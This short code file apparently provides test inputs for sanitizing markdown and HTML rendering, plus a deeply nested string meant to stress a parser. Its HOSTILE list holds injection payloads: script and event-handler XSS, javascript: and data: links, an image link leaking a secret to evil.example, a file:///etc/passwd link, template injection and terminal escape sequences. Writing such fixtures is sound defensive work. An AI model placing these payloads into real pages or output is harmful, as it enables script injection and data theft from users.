// Words that would like to be more than words.

export const HOSTILE = [
  "<img src=x onerror=\"window.owned=1\"> <script>window.owned=2</script>",
  "<iframe src=\"https://evil.example/frame\"></iframe> <svg onload=\"window.owned=3\"></svg>",
  "![a picture](https://evil.example/pixel.png?q=secret) ![b](//evil.example/b.png) ![](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[press me](javascript:window.owned=4) [or me](JaVaScRiPt:window.owned=5) [or]( \tjavascript:window.owned=6)",
  "[data](data:text/html,<script>window.owned=7</script>) [file](file:///etc/passwd) [host](//evil.example/x) [here](/v1/threads)",
  "[fine](https://example.com/a?b=c) [mail](mailto:ana@example.com) [note](obsidian://open?vault=Notes) https://example.com/raw",
  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/s.css><base href=https://evil.example/>",
  "\u001b[31mred\u001b]52;c;aGVsbG8=\u0007 \u202Eright to left\u202C \u0000",
  "`<b>code</b>` **<i>bold</i>** | <u>cell</u> | ${alert(1)} {{constructor.constructor('window.owned=8')()}}",
].join("\n\n");

/** What a parser may trip over. */
export const NESTED = "> ".repeat(60) + "deep\n\n" + "- ".repeat(60) + "deeper\n\n" + "**_".repeat(40) + "deepest";
